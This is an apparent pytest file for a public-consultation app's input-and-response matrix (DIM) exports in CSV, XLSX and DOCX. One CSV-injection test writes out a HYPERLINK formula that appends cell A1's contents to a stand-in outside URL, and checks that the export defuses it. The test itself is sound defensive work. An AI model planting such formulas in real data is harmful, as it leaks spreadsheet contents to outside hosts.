"""The matrix of inputs and answers (DIM): columns, contents and the three downloads."""
import csv
import io
import zipfile

import pytest

from consult.record import dim_files
from tests.consult import record_world

COLUMNS = ["No.", "Unit", "Rumusan draf (versi n)", "Masukan / usulan rumusan", "Alasan",
           "Pengusul", "Tanggapan penyusun", "Status", "Rumusan hasil (versi n+1)",
           "Keterangan"]


@pytest.fixture
def world(make):
    return record_world.build(make)


def _csv_rows(data):
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_columns_are_the_documented_ones():
    assert list(dim_files.COLUMNS) == COLUMNS


def test_csv_has_every_input_with_its_outcome(client, world):
    response = client.get(f"/r/{world.regulation.slug}/dim.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = _csv_rows(response.data)
    assert rows[0] == COLUMNS
    by_number = {int(r[0]): dict(zip(COLUMNS, r)) for r in rows[1:]}
    assert sorted(by_number) == sorted(i.number for i in world.inputs.values())

    reject = by_number[world.inputs["reject"].number]
    assert reject["Unit"] == "Pasal 1"
    assert "Daerah adalah Kabupaten Contoh" in reject["Rumusan draf (versi n)"]
    assert reject["Masukan / usulan rumusan"] == "Definisi daerah terlalu sempit untuk media siber."
    assert reject["Status"] == "ditolak"
    assert reject["Tanggapan penyusun"] == "Definisi mengikuti peraturan yang lebih tinggi."
    assert reject["Pengusul"].startswith("SMSI Kabupaten Contoh, Siti Anggota;")
    assert reject["Pengusul"].endswith("; daring")
    # Version 2 exists, so the resulting wording is the unit's text in version 2.
    assert "Daerah adalah Kabupaten Contoh" in reject["Rumusan hasil (versi n+1)"]

    statuses = {by_number[world.inputs[k].number]["Status"] for k in
                ("reject", "postpone", "accept", "scope", "partial")}
    assert statuses == {"ditolak", "ditunda", "diterima", "di luar lingkup", "diterima sebagian"}

    partial = by_number[world.inputs["partial"].number]
    assert "Pengelolaan dilaksanakan oleh Perangkat Daerah bersama media." in \
        partial["Masukan / usulan rumusan"]
    assert partial["Alasan"] == "Agar media dilibatkan sejak awal."
    assert partial["Rumusan draf (versi n)"].startswith("Pengelolaan dilaksanakan oleh Perangkat")

    open_row = by_number[world.inputs["open"].number]
    assert open_row["Status"] == "belum dijawab" and open_row["Tanggapan penyusun"] == ""

    withdrawn = by_number[world.inputs["withdrawn"].number]
    assert withdrawn["Status"] == "ditarik"
    assert "Ditarik pengusul" in withdrawn["Keterangan"]

    umum = by_number[world.inputs["scope"].number]
    assert umum["Unit"] == "Umum"


def test_hidden_input_shows_the_reason_and_no_body(client, world):
    rows = _csv_rows(client.get(f"/r/{world.regulation.slug}/dim.csv").data)
    row = next(r for r in rows[1:] if int(r[0]) == world.inputs["hidden"].number)
    text = " ".join(row)
    assert "Disembunyikan oleh moderator: memuat data pribadi seseorang" in text
    assert "0812" not in text and "nomor telepon" not in text
    page = client.get(f"/r/{world.regulation.slug}/dim").get_data(as_text=True)
    assert "memuat data pribadi seseorang" in page
    assert "0812" not in page


def test_html_view_lists_rows_and_downloads(client, world):
    response = client.get(f"/r/{world.regulation.slug}/dim")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    for column in COLUMNS[1:]:
        assert column in html
    for item in world.inputs.values():
        assert f'id="no-{item.number}"' in html
    for ext in ("xlsx", "docx", "csv"):
        assert f"/r/{world.regulation.slug}/dim.{ext}" in html


def test_scope_one_version(client, world, make):
    slug = world.regulation.slug
    rows = _csv_rows(client.get(f"/r/{slug}/dim.csv?versi=1").data)
    assert len(rows) - 1 == len(world.inputs)
    assert _csv_rows(client.get(f"/r/{slug}/dim.csv?versi=2").data) == [COLUMNS]
    assert "Belum ada masukan" in client.get(f"/r/{slug}/dim?versi=2").get_data(as_text=True)
    assert client.get(f"/r/{slug}/dim?versi=9").status_code == 404
    assert client.get(f"/r/{slug}/dim?versi=satu").status_code == 400


def test_xlsx_layout(client, world):
    from openpyxl import load_workbook

    response = client.get(f"/r/{world.regulation.slug}/dim.xlsx?versi=1")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    ws = load_workbook(io.BytesIO(response.data)).active
    header_row = next(r for r in range(1, 12) if ws.cell(r, 1).value == "No.")
    assert [ws.cell(header_row, c).value for c in range(1, 11)] == COLUMNS
    assert ws.freeze_panes == f"A{header_row + 1}"
    assert ws.cell(header_row + 1, 3).alignment.wrap_text
    assert ws.column_dimensions["C"].width >= 30 and ws.column_dimensions["A"].width <= 8
    assert world.regulation.title in [ws.cell(r, 1).value for r in range(1, header_row)]
    assert "Versi 1" in " ".join(str(ws.cell(r, 1).value) for r in range(1, header_row))
    numbers = [ws.cell(r, 1).value for r in range(header_row + 1, ws.max_row + 1)]
    assert sorted(numbers) == sorted(i.number for i in world.inputs.values())
    assert ws.page_setup.orientation == "landscape"


def test_docx_layout(client, world):
    from docx import Document
    from docx.enum.section import WD_ORIENT

    response = client.get(f"/r/{world.regulation.slug}/dim.docx")
    assert response.status_code == 200
    document = Document(io.BytesIO(response.data))
    section = document.sections[0]
    assert section.orientation == WD_ORIENT.LANDSCAPE
    assert section.page_width > section.page_height
    heading = "\n".join(p.text for p in document.paragraphs[:6])
    assert "MATRIKS MASUKAN DAN TANGGAPAN" in heading
    assert world.regulation.title in heading and world.regulation.office in heading
    table = document.tables[0]
    assert [c.text for c in table.rows[0].cells] == COLUMNS
    assert len(table.rows) == 1 + len(world.inputs)
    body = "\n".join(c.text for row in table.rows for c in row.cells)
    assert "diterima sebagian" in body and "Disembunyikan oleh moderator" in body
    # The header row repeats on every page.
    assert b"tblHeader" in zipfile.ZipFile(io.BytesIO(response.data)).read("word/document.xml")


def test_unknown_or_unpublished_regulation_is_404(client, make):
    draft = make.draft_version()
    assert client.get(f"/r/{draft.regulation.slug}/dim").status_code == 404
    assert client.get(f"/r/{draft.regulation.slug}/dim.csv").status_code == 404
    assert client.get("/r/tidak-ada/dim.xlsx").status_code == 404


def test_dim_of_the_demo(app, client):
    """Every demo input, with its disposition, in all three downloads."""
    import sqlalchemy as sa

    from consult.demo import load_demo
    from consult.extensions import db
    from consult.models import Input, Regulation

    load_demo()
    regulation = db.session.execute(sa.select(Regulation)).scalars().first()
    if regulation is None:
        pytest.skip("the demo has no regulation yet (drafting area's demo step absent)")
    inputs = db.session.execute(sa.select(Input).where(Input.parent_id.is_(None))).scalars().all()
    rows = _csv_rows(client.get(f"/r/{regulation.slug}/dim.csv").data)
    assert rows[0] == COLUMNS
    assert sorted(int(r[0]) for r in rows[1:]) == sorted(i.number for i in inputs)
    statuses = {r[7] for r in rows[1:]}
    assert {"diterima", "diterima sebagian", "ditolak", "ditunda", "di luar lingkup"} <= statuses
    for ext in ("xlsx", "docx"):
        assert client.get(f"/r/{regulation.slug}/dim.{ext}").status_code == 200


def _english(app):
    english = app.test_client()
    with english.session_transaction() as session:
        session["lang"] = "en"
    return english


def test_an_english_reader_gets_english_column_titles(app, world):
    english = _english(app)
    page = english.get(f"/r/{world.regulation.slug}/dim").get_data(as_text=True)
    assert '<th scope="col">Draft wording (version n)</th>' in page
    assert '<th scope="col">Rumusan draf (versi n)</th>' not in page
    assert 'data-label="Proposer"' in page and "not answered yet" in page
    rows = _csv_rows(english.get(f"/r/{world.regulation.slug}/dim.csv").data)
    assert rows[0][:4] == ["No.", "Unit", "Draft wording (version n)", "Input / proposed wording"]
    assert len(rows[0]) == len(COLUMNS)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_made_text(client, make, start):
    """CSV injection: '=HYPERLINK(...)' typed into a comment must not become a formula on the
    drafter's machine; the apostrophe makes Excel and LibreOffice show it as text."""
    body = f'{start}HYPERLINK("http://contoh.invalid/?"&A1;"klik")'
    item = make.comment(body=body)
    slug = item.regulation.slug
    rows = _csv_rows(client.get(f"/r/{slug}/dim.csv").data)
    cell = dict(zip(COLUMNS, rows[1]))["Masukan / usulan rumusan"]
    assert cell.startswith("'" + start) and "HYPERLINK" in cell
    from tests.consult.test_record_export import _open
    inputs = _csv_rows(_open(client.get(f"/r/{slug}/ekspor.zip").data)["inputs.csv"])
    body_at = inputs[0].index("body")
    assert inputs[1][body_at] == "'" + body


def test_a_cell_starting_with_a_tab_or_return_is_made_text_too():
    from consult.record.dim_files import csv_cell
    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\r=1") == "'\r=1"
    assert csv_cell(7) == 7 and csv_cell("") == "" and csv_cell("Pasal 1") == "Pasal 1"


def test_ordinary_text_is_written_as_it_is(client, make):
    item = make.comment(body="Pasal ini (ayat 2) perlu 100% jelas.")
    rows = _csv_rows(client.get(f"/r/{item.regulation.slug}/dim.csv").data)
    assert dict(zip(COLUMNS, rows[1]))["Masukan / usulan rumusan"] == \
        "Pasal ini (ayat 2) perlu 100% jelas."


def test_an_input_on_the_whole_draft_is_labelled_in_the_readers_language(app, client, world):
    """Stored as "Umum"; legal labels such as "Pasal 1" stay as they are in English."""
    item = world.inputs["scope"]
    english = _english(app)
    page = english.get(f"/masukan/{item.id}", follow_redirects=True).get_data(as_text=True)
    assert '<small class="meta">General</small>' in page
    assert '<small class="meta">Umum</small>' in client.get(f"/masukan/{item.id}", follow_redirects=True).get_data(
        as_text=True)
    rows = _csv_rows(english.get(f"/r/{world.regulation.slug}/dim.csv").data)
    units = {int(r[0]): r[1] for r in rows[1:]}
    assert units[item.number] == "General"
    assert units[world.inputs["reject"].number] == "Pasal 1"
